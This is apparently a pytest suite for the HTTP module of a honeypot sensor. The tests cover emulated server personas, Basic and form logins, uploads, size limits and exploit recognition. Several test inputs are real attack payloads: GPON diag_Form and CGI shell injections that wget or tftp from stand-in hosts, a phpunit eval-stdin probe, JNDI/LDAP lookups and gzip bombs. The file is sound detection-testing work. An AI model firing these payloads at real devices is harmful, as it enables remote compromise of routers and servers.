"""HTTP: the dialogue, logins and uploads, every limit and one past it, and that no two sensors look alike."""
# ruff: noqa: E501 -- a request is a line

from __future__ import annotations

import base64
import gzip
import json

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, LoginTried, RequestReceived
from eudaemon.protocols import _loot as loot
from eudaemon.protocols import _places as places
from eudaemon.protocols._base import HalfClosed
from eudaemon.protocols._http import HttpLimits, Request
from eudaemon.protocols._places import Look
from eudaemon.protocols.http import Http, room
from eudaemon.protocols.http.exploits import recognised
from eudaemon.protocols.http.persona import PRODUCTS, Persona, http_date, persona_of
from eudaemon.testing.script import START_S, Table, play, visit
from eudaemon.wire import Purse, decode
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed


def host_like(what: str, value: object) -> Host:
    """Return the first host whose web server has that."""
    hosts = (Host.from_seed(Seed(b"%d" % number)) for number in range(2000))
    return next(host for host in hosts if getattr(persona_of(host), what) == value)


KEEPS_ALIVE = next(product for product in PRODUCTS if product.keeps_alive)


def table(host: Host | None = None) -> Table:
    return Table(Http(visit(host=host))).open()


def facts(talk: Table, kind: type) -> list[object]:
    return [fact for fact in talk.facts if isinstance(fact, kind)]


@pytest.mark.parametrize("size", [0, 1, 4095, 4096, 4097, 65536, 1_500_000, 10_000_000])
def test_an_upload_is_kept_byte_exact(size: int) -> None:
    content = Seed(b"upload").bytes("content", size)
    talk = table()
    talk.say(b"PUT /tmp/x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n")
    for start in range(0, size, 60_001):
        part = content[start : start + 60_001]
        talk.say(b"%x\r\n%b\r\n" % (len(part), part))
    talk.say(b"0\r\n\r\n")
    assert [(keep.data == content, keep.origin, keep.name) for keep in talk.kept] == [(True, "upload", "/tmp/x")][:size]


def test_of_an_upload_past_the_limit_the_start_is_kept_and_called_partial() -> None:
    talk = Table(Http(visit(purse=Purse(100_000)))).open()
    talk.say(b"PUT /x HTTP/1.1\r\nContent-Length: 200000\r\n\r\n")
    for _ in range(20):
        talk.say(b"a" * 10_000)
    assert "held" in talk.fault
    assert [(keep.name, keep.partial, len(keep.data) > 80_000, set(keep.data)) for keep in talk.kept] == [
        ("/x", True, True, {ord("a")})
    ]


def test_an_upload_that_the_end_cuts_is_called_partial() -> None:
    talk = table()
    talk.say(b"PUT /x HTTP/1.1\r\nContent-Length: 9\r\n\r\nabc")
    talk.end()
    assert [(keep.data, keep.partial) for keep in talk.kept] == [(b"abc", True)]


def test_the_files_of_a_form_are_kept() -> None:
    body = (b'--XX\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--XX\r\nContent-Disposition: form-data; name="f"; '
            b'filename="x.elf"\r\nContent-Type: application/octet-stream\r\n\r\n\x7fELF\r\n\x00\r\n--XX--\r\n')  # fmt: skip
    talk = table()
    talk.say(b"POST /upload HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=XX\r\nContent-Length: %d\r\n\r\n%b"
             % (len(body), body))  # fmt: skip
    assert [(keep.data, keep.origin, keep.name) for keep in talk.kept] == [(b"\x7fELF\r\n\x00", "upload", "x.elf")]


# --- answering -----------------------------------------------------------------------------------

DIALOGUE = r"""
> GET /nothing HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: curl/8\r\n\r\n
*
! http.request method='GET' target='/nothing' host='192.0.2.1' user_agent='curl/8' body_bytes=0
> POST /x HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n
< HTTP/1.1 100 Continue\r\n\r\n
> a=bc
*
! http.request method='POST' body_bytes=4
> HEAD / HTTP/1.1\r\nConnection: close\r\n\r\n
*
! http.request method='HEAD'
/ over
"""


@pytest.mark.parametrize("split", [0, 1])
def test_a_dialogue(split: int) -> None:
    given = visit(host=host_like("product", KEEPS_ALIVE))
    heard = play(Http, DIALOGUE, split=split, given=given)
    assert heard.sent.endswith(b"\r\n\r\n"), "HEAD gets no body"
    assert heard.sent.count(b"HTTP/1.1 ") == 4


def test_a_product_that_does_not_keep_alive_hangs_up() -> None:
    closes = next(product for product in PRODUCTS if not product.keeps_alive)
    talk = table(host_like("product", closes))
    assert b"Connection: close" in talk.say(b"GET / HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\n\r\n")
    assert talk.over
    assert len(facts(talk, RequestReceived)) == 1


def test_the_last_request_of_a_connection_is_answered_as_any_and_said_to_be_the_last() -> None:
    """As Apache's KeepAliveRequests has it; `dirb` takes whatever else for a page that it found."""
    talk = table(host_like("product", KEEPS_ALIVE))
    asks = b"GET /nothing-here HTTP/1.1\r\n\r\n"
    for _ in range(HttpLimits().requests_max - 1):
        usual = talk.say(asks)
        assert b"Connection: close" not in usual
        assert not talk.over
    last = talk.say(asks)
    assert last.split(b"\r\n")[0] == usual.split(b"\r\n")[0]
    assert b"Connection: close" in last
    assert talk.over
    assert not talk.fault


def test_a_bad_request_is_answered_and_is_evidence() -> None:
    talk = table()
    assert b" 400 Bad Request\r\n" in talk.say(b"NONSENSE\r\n")
    assert talk.fault == "request line without target or version"


def basic(user: str, password: str) -> bytes:
    return b"Authorization: Basic " + base64.b64encode(f"{user}:{password}".encode()) + b"\r\n"


def test_basic_logins() -> None:
    host = host_like("asks_basic", True)
    persona = persona_of(host)
    assert f'WWW-Authenticate: Basic realm="{persona.realm}"'.encode() in table(host).say(b"GET / HTTP/1.1\r\n\r\n")
    talk = table(host)
    assert b" 200 OK" in talk.say(b"GET / HTTP/1.1\r\n" + basic("admin", "admin") + b"\r\n")
    assert facts(talk, LoginTried) == [LoginTried("admin", "admin", accepted=True)]
    talk = table(host)
    assert b" 401 " in talk.say(b"GET / HTTP/1.1\r\n" + basic("nobody", "") + b"\r\n")
    assert facts(talk, LoginTried) == [LoginTried("nobody", "", accepted=False)]


def test_form_logins() -> None:
    host = host_like("asks_basic", False)
    persona = persona_of(host)
    assert persona.login_path.encode() in table(host).say(b"GET / HTTP/1.1\r\n\r\n")

    def login(user: str, password: str) -> Table:
        form = f"{persona.user_field}={user}&{persona.password_field}={password}".encode()
        head = f"POST {persona.login_path} HTTP/1.1\r\nContent-Length: {len(form)}\r\n\r\n"
        talk = table(host)
        talk.say(head.encode() + form)
        return talk

    refused = login("nobody", "%20x%26")
    assert facts(refused, LoginTried) == [LoginTried("nobody", " x&", accepted=False)]
    assert b"Login failed" in refused.sent
    accepted = login("admin", "admin")
    assert b" 302 " in accepted.sent
    cookie = accepted.sent.partition(b"Set-Cookie: ")[2].partition(b";")[0]
    inside = table(host).say(b"GET / HTTP/1.1\r\nCookie: %b\r\n\r\n" % cookie)
    assert persona.firmware.encode() in inside
    assert b"<form" not in inside


@pytest.mark.parametrize(
    ("head", "body"),
    [
        (b"Content-Type: application/json", b'{"username": "admin", "password": "admin"}'),
        (b"A: b", b"Frm_Username=admin&Frm_Password=admin"),
        (b"A: b", b"login_name=admin&login_pwd=admin&x=y"),
        (b"A: b", b"ajax=1&username=admin&realm=&credential=admin"),  # FortiOS' SSL-VPN
    ],
)
def test_logins_of_other_products(head: bytes, body: bytes) -> None:
    talk = table()
    talk.say(b"POST /whatever HTTP/1.1\r\n%b\r\nContent-Length: %d\r\n\r\n%b" % (head, len(body), body))
    assert facts(talk, LoginTried) == [LoginTried("admin", "admin", accepted=True)]


def test_the_icon_is_one_and_knows_its_tag() -> None:
    talk = table()
    head, _, icon = talk.say(b"GET /favicon.ico HTTP/1.1\r\n\r\n").partition(b"\r\n\r\n")
    assert icon[:4] == b"\0\0\1\0"
    assert int.from_bytes(icon[14:18], "little") == len(icon) - 22
    tag = head.partition(b"ETag: ")[2].partition(b"\r\n")[0]
    assert b" 304 " in table().say(b"GET /favicon.ico HTTP/1.1\r\nIf-None-Match: %b\r\n\r\n" % tag)


def test_dates() -> None:
    assert http_date(784111777) == "Sun, 06 Nov 1994 08:49:37 GMT"  # the example of RFC 9110 section 5.6.7
    assert http_date(START_S).encode() in table().say(b"GET / HTTP/1.1\r\n\r\n")


def test_no_two_sensors_look_alike() -> None:
    personas = [persona_of(Host.from_seed(Seed(b"sensor %d" % number))) for number in range(60)]
    assert len({persona.product.servers for persona in personas}) == len(PRODUCTS)
    for field in ("model", "etag", "token", "firmware", "colours"):
        assert len({getattr(persona, field) for persona in personas}) > 50, field
    for field in ("server", "login_path", "page_path", "user_field", "cookie", "realm"):
        assert len({getattr(persona, field) for persona in personas}) > 5, field
    pages = [common_words(persona) for persona in personas]
    assert set.intersection(*pages) == set(), "a word that every sensor shows"


def common_words(persona: Persona) -> set[bytes]:
    """Return what of a sensor's answers could tell it, beyond HTTP and HTML themselves."""
    shown = persona.response(START_S, 404, "text/html", persona.error_page(404))
    ordinary = b"HTTP/1.1 404 Not Found Date Content-Length Content-Type text/html Connection close Server".split()
    return {line for line in shown.split(b"\r\n") if line} - set(ordinary) - {
        b"Connection: close", b"Content-Type: text/html", b"Date: " + http_date(START_S).encode(),
    }  # fmt: skip


# --- what goes wrong, and what attackers get wrong -----------------------------------------------


def test_a_compressed_body_is_looked_into() -> None:
    body = gzip.compress(b"a=$(wget http://198.51.100.7/x)")
    talk = table()
    talk.say(b"POST /x HTTP/1.1\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body))
    assert facts(talk, ExploitRecognised) == [
        ExploitRecognised("shell-injection", "CWE-78", "wget http://198.51.100.7/x")
    ]


@pytest.mark.parametrize("past", [0, 1])
def test_a_gzip_bomb_is_evidence(past: int) -> None:
    body = gzip.compress(bytes(room.INFLATED_BYTES_MAX + past))
    talk = table()
    talk.say(b"POST /x HTTP/1.1\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body))
    if not past:
        assert b" 404 " in talk.sent
        return
    assert b" 413 " in talk.sent
    assert "compressed body" in talk.fault
    assert [(keep.origin, keep.data) for keep in talk.kept] == [("payload", body)]


CUT = r"""
> POST /GponForm/diag_Form?images/ HTTP/1.1\r\nContent-Length: 999\r\n\r\ndest_host=`wget http://198.51.100.7/x`
~ 7
~ 2
*
! exploit.recognised name='gpon-diag' command='wget http://198.51.100.7/x'
? http://198.51.100.7/x
= ok
/ over
"""

LONGER = r"""
> POST /GponForm/diag_Form?images/ HTTP/1.1\r\nContent-Length: 24\r\n\r\ndest_host=`wget http://198.51.100.7/x`&ipv=0
*
! http.request body_bytes=24
~ 9
! exploit.recognised name='gpon-diag' command='wget http://198.51.100.7/x'
"""


@pytest.mark.parametrize("split", [0, 1])
@pytest.mark.parametrize("script", [CUT, LONGER])
def test_a_body_that_is_not_as_long_as_it_says(script: str, split: int) -> None:
    play(Http, script, split=split, given=visit(host=host_like("product", KEEPS_ALIVE)))


def test_a_request_that_the_end_cuts_is_still_told() -> None:
    talk = table()
    talk.say(b"POST /GponForm/diag_Form HTTP/1.1\r\nContent-Length: 99\r\n\r\ndest_host=`tftp -g -r x 192.0.2.3`")
    talk.end()
    assert facts(talk, ExploitRecognised)
    assert [wish.download.url for wish in talk.wishes] == ["tftp://192.0.2.3/x"]
    assert talk.sent == b""


def test_what_was_written_is_kept_even_if_the_end_is_a_fault() -> None:
    talk = table(host_like("product", KEEPS_ALIVE))
    talk.say(b"GET /x?a=;echo+-e+%27hello%5Cx01%27+%3E+/tmp/f HTTP/1.1\r\n\r\n")
    bomb = gzip.compress(bytes(4 * room.INFLATED_BYTES_MAX))
    talk.say(b"POST /x HTTP/1.1\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n%b" % (len(bomb) + 1, bomb))
    talk.end()
    assert "compressed body" in talk.fault
    assert ("/tmp/f", b"hello\1\n") in [(keep.name, keep.data) for keep in talk.kept]


def test_the_line_stays_open_for_what_a_command_still_fetches() -> None:
    talk = table()
    talk.say(b"GET /x.cgi?a=;wget+http://198.51.100.7/1;wget+http://198.51.100.7/2 HTTP/1.0\r\n\r\n")
    talk.tell(HalfClosed(talk.at_s))
    assert not talk.over
    talk.answer("ok")
    assert [wish.download.url for wish in talk.wishes] == ["http://198.51.100.7/2"]
    talk.answer("failed")
    assert talk.over


def test_output_is_shown_where_the_product_shows_it() -> None:
    talk = table()
    assert talk.say(b"GET /shell?echo+hello HTTP/1.1\r\n\r\n").endswith(b"\r\n\r\nhello\n")
    assert facts(talk, CommandEntered) == [CommandEntered("echo hello")]
    assert b"hello" not in table().say(b"GET /cgi-bin/;echo${IFS}hello HTTP/1.1\r\n\r\n")


def test_probes_that_want_a_hash_get_it() -> None:
    probe = b"<?php echo md5('phpunit'); ?>"
    talk = table()
    talk.say(b"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nContent-Length: %d\r\n\r\n%b"
             % (len(probe), probe))  # fmt: skip
    assert talk.sent.endswith(b"85af727fd022d3a13e7972fd6a418582")
    assert [(keep.origin, keep.data) for keep in talk.kept] == [("script", probe)]


def test_ordinary_requests_are_no_exploits() -> None:
    for line in (
        b"GET /?q=rock%20%26%20roll;a=b HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:1) Gecko\r\n",
        b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=read&country=US HTTP/1.1\r\nAccept-Language: en;q=0.5\r\n",
        b"GET /setup.cgi?todo=save HTTP/1.1\r\nCookie: id=5; echo=1; lang=en|de\r\n",
        b"GET /cat?cmd=list HTTP/1.1\r\nReferer: http://a/?x=1;y=2\r\n",
    ):
        talk = table()
        talk.say(line + b"\r\n")
        assert facts(talk, RequestReceived)
        assert facts(talk, ExploitRecognised) == []


# --- limits of what is looked at -----------------------------------------------------------------


def recognises(body: bytes, head: bytes = b"", target: bytes = b"/x") -> bool:
    request = Request("POST", target, (1, 1), ((b"content-type", head),), body)
    return recognised(Look(request, body)) is not None


COMMAND = b"`id`"


@pytest.mark.parametrize("past", [0, 1])
def test_a_body_is_looked_at_up_to_a_limit(past: int) -> None:
    body = b"a=b&" + b"c" * (places.LOOKED_BYTES_MAX + past - 4 - 3 - len(COMMAND)) + b"&d=" + COMMAND
    assert len(body) == places.LOOKED_BYTES_MAX + past
    assert recognises(body) is not bool(past)


@pytest.mark.parametrize("past", [0, 1])
def test_parts_are_looked_at_up_to_a_limit(past: int) -> None:
    part = b'--B\r\nContent-Disposition: form-data; name="a"\r\n\r\n%b\r\n'
    body = part % b"b" * (places.PARTS_MAX - 1 + past) + part % COMMAND + b"--B--\r\n"
    found = Look(Request("POST", b"/x", (1, 1), ((b"content-type", b"multipart/form-data; boundary=B"),), body), body)
    assert len(found.parts) == places.PARTS_MAX


@pytest.mark.parametrize("past", [0, 1])
def test_parameters_are_told_apart_up_to_a_limit(past: int) -> None:
    query = b"&".join([b"a=b"] * (places.PARAMETERS_MAX + past)) + b"&c=d"
    look = Look(Request("GET", b"/x?" + query, (1, 1), ()), b"")
    assert [value for name, value in look.parameters if name == b"c"] == ([] if past else [b"d"])


@pytest.mark.parametrize("past", [0, 1])
def test_json_values_are_looked_at_up_to_a_limit(past: int) -> None:
    body = json.dumps([COMMAND.decode(), *["x"] * (places.JSON_VALUES_MAX - 2 + past)]).encode()
    assert recognises(body) is not bool(past)


@pytest.mark.parametrize("past", [0, 1])
def test_tags_are_looked_at_up_to_a_limit(past: int) -> None:
    # The last one holds the rest.
    body = b"<a>" * (places.TAGS_MAX - 1 + past) + b"<b>x</b><c>" + COMMAND
    assert len(Look(Request("POST", b"/", (1, 1), ()), body).fields) == places.TAGS_MAX


def test_json_that_nests_without_end_is_no_json() -> None:
    assert Look(Request("POST", b"/", (1, 1), ()), b"[" * 60_000).json is None
    for encoding in ("utf-16", "utf-16-be", "utf-32", "utf-32-be"):  # a confined sensor may be unable to load it
        assert Look(Request("POST", b"/", (1, 1), ()), '{"a": 1}'.encode(encoding)).json is None


def test_lookups_nest_up_to_a_limit() -> None:
    for levels, found in ((20, True), (10_000, False)):
        text = b"${lower:" * levels + b"j" + b"}" * levels
        assert bool(loot.jndi(b"${" + text + b"ndi:ldap://a/b}")) is found


def test_urls_up_to_a_limit() -> None:
    taken = loot.jndi(b"".join(b"${jndi:ldap://a/%d}" % number for number in range(9)))
    assert taken
    assert len(taken.urls) == decode.JNDI_URLS_MAX


@pytest.mark.parametrize("past", [0, 1])
def test_a_command_has_a_length_and_lines(past: int) -> None:
    talk = table()
    line = b"echo ".ljust(room.COMMAND_BYTES_MAX - 7 + past, b"a") + b">/tmp/f"
    body = b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`%b`&ipv=0" % line
    talk.say(b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body))
    talk.end()
    assert [keep.name for keep in talk.kept] == ["/tmp/" if past else "/tmp/f"][past:]
    talk = table()
    talk.say(b"GET /shell?%b HTTP/1.1\r\n\r\n" % b"%0a".join([b"id"] * (room.COMMAND_LINES_MAX + past)))
    assert len(facts(talk, CommandEntered)) == room.COMMAND_LINES_MAX


def test_output_is_shown_up_to_a_limit() -> None:
    talk = table()
    talk.say(b"GET /shell?x=%b;for+i+in+1+2+3+4+5+6+7+8+9+0;do+echo+$x;echo+$x;done HTTP/1.1\r\n\r\n" % (b"a" * 8000))
    body = talk.sent.partition(b"\r\n\r\n")[2]
    assert len(body) == room.OUTPUT_BYTES_MAX
